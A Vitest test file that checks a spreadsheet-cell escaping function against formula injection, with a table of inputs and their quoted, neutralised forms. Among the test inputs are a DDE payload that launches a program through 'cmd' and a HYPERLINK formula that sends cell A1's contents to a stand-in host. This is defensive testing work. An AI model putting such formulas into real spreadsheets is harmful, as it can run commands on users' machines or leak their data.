import { expect, it } from 'vitest';
import { armedText, harmlessText } from './cell.ts';

const F = { plus: '\uFF0B', minus: '\uFF0D', equals: '\uFF1D', at: '\uFF20' };

/** Text as an agent may write it, and as it stands in the cell. */
const cells: readonly (readonly [text: string, cell: string])[] = [
  ['=1+1', "'=1+1"],
  ['+1+1', "'+1+1"],
  ['-1+1', "'-1+1"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ["|cmd'!A1", "'|cmd'!A1"],
  [`${F.equals}1+1`, `'${F.equals}1+1`],
  [`${F.plus}1+1`, `'${F.plus}1+1`],
  [`${F.minus}1+1`, `'${F.minus}1+1`],
  [`${F.at}SUM(A1)`, `'${F.at}SUM(A1)`],
  ['=1+1\nnote', "'=1+1\nnote"],
  ['@SUM(A1)\r\nx', "'@SUM(A1)\r\nx"],
  ['note\n=1+1', "note\n'=1+1"],
  ['note\r\n \t-2', "note\r'\n' \t'-2"],
  ['  =1+1', "'  =1+1"],
  ['\u00A0=1+1', "'\u00A0=1+1"],
  ['\uFEFF=1+1', "'\uFEFF=1+1"],
  ['\t=1+1', "'\t'=1+1"],
  ['\ttab', "'\ttab"],
  ['\rreturn', "'\rreturn"],
  ['\nfeed', "'\nfeed"],
  ['called; =1+1', "called;' =1+1"],
  ['x;"=1+1', `x;'"=1+1`],
  ['"=1+1"', `'"=1+1"`],
  ["'=1+1", "''=1+1"],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ['=HYPERLINK("http://x.example?"&A1,"see")', `'=HYPERLINK("http://x.example?"&A1,"see")`],
  ['+4930123456', "'+4930123456"],
  ["it's well", "it's well"],
  ["'quoted'", "'quoted'"],
  ['a = b - c, 5 + 5; well', 'a = b - c, 5 + 5; well'],
  ['…1234', '…1234'],
  ['', ''],
];

it.each(cells)('%j stands in its cell as %j, and is read back', (text, cell) => {
  expect(harmlessText(text)).toBe(cell);
  expect(armedText(cell)).toBe(text);
});
